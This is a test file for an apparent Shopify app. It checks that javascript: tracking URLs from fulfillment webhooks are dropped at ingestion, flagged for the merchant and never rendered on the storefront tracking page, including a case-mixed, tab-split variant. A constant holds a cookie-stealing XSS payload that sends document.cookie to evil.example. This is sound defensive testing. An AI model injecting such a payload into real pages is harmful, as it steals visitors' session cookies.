import { beforeAll, describe, expect, it } from "vitest";
import { database } from "~/data/client.server";
import { fulfillmentWebhookPayload } from "~/services/ingestion/fulfillment-webhook-builder.server";
import { appProxyUrl, signedWebhookRequest, TEST_APP } from "~/testing/shopify-requests";
import { action } from "./apps.track";
import { action as fulfillmentCreated } from "./webhooks.fulfillments.create";

const UPS = "1Z999AA10123456784";
const USPS = "9400111899223817000000";
const SCRIPT_URL = "javascript:fetch('//evil.example/'+document.cookie)";

function lookUp(tracking: string) {
  const request = new Request(appProxyUrl("/apps/track"), {
    method: "POST",
    body: new URLSearchParams({ tracking }),
    headers: { "Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-For": "198.51.100.7" },
  });
  return action({ request, params: {}, context: {} });
}

describe("carrier links on the storefront tracking page", () => {
  beforeAll(async () => {
    const body = fulfillmentWebhookPayload({
      fulfillmentId: 4_500_000_001,
      orderId: 5_500_000_001,
      orderName: "#5501",
      createdAt: new Date("2026-11-20T10:00:00Z"),
      trackingCompany: "UPS",
      trackingNumbers: [UPS],
      trackingUrls: [` ${SCRIPT_URL}`],
      destinationCountry: "US",
      lineItemCount: 1,
    });
    const response = await fulfillmentCreated({ request: signedWebhookRequest({ topic: "fulfillments/create", body }), params: {}, context: {} });
    expect(response.status).toBe(200);
  });

  it("drops a javascript: tracking_url at ingestion and flags it for the merchant", async () => {
    const row = await database().db.shipment.findFirstOrThrow({ where: { shopDomain: TEST_APP.shop, trackingNumber: UPS } });
    expect(row).toMatchObject({
      trackingUrl: `https://www.ups.com/track?tracknum=${UPS}`,
      trackingIssue: "unsafe_tracking_url",
      trackingIssueDetail: "The fulfillment's tracking URL is not an http(s) link and was dropped (scheme javascript:)",
      status: "pending",
    });
  });

  it("never renders a non-http(s) link, even one stored before ingestion refused them", async () => {
    const html = await (await lookUp(UPS)).text();
    expect(html).toContain(`href="https://www.ups.com/track?tracknum=${UPS}"`);
    expect(html).not.toMatch(/javascript:/i);

    const { db } = database();
    const row = await db.shipment.findFirstOrThrow({ where: { trackingNumber: UPS } });
    await db.shipment.create({
      data: { shopDomain: row.shopDomain, orderId: "gid://shopify/Order/5500000002", orderName: "#5502", fulfillmentId: "gid://shopify/Fulfillment/4500000002", trackingNumber: USPS, carrier: "usps", trackingUrl: `JaVa\tScRiPt:${SCRIPT_URL.slice(11)}` },
    });
    const legacy = await (await lookUp(USPS)).text();
    expect(legacy).toContain(USPS);
    expect(legacy).not.toMatch(/java\s*script:/i);
    expect(legacy).not.toContain("<a href");
  });
});
